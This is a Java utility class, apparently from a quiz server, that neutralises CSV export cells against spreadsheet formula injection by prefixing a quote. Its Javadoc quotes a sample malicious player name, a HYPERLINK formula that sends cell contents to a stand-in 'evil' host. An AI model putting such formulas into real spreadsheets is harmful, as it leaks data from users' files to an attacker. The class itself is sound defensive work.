package dev.tlsquiz.server.results.export;

/**
 * Neutralises text that a spreadsheet would run as a formula, as OWASP's CSV-injection guidance
 * describes: a cell that starts with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a carriage
 * return gets a single quote in front, which spreadsheets show as text and do not evaluate. A player
 * named {@code =HYPERLINK("http://evil/?"&A1,"click")} is then only a name.
 *
 * <p>Applied to the text cells of an export (names, answers, questions); the numbers the server itself
 * produced (scores, points, times) are written as numbers.
 */
public final class SpreadsheetCells {

    private SpreadsheetCells() {
    }

    /** {@code text}, with a leading {@code '} when a spreadsheet would read it as a formula; null stays null. */
    public static String neutralise(String text) {
        if (text == null || text.isEmpty()) {
            return text;
        }
        return switch (text.charAt(0)) {
            case '=', '+', '-', '@', '\t', '\r' -> "'" + text;
            default -> text;
        };
    }
}
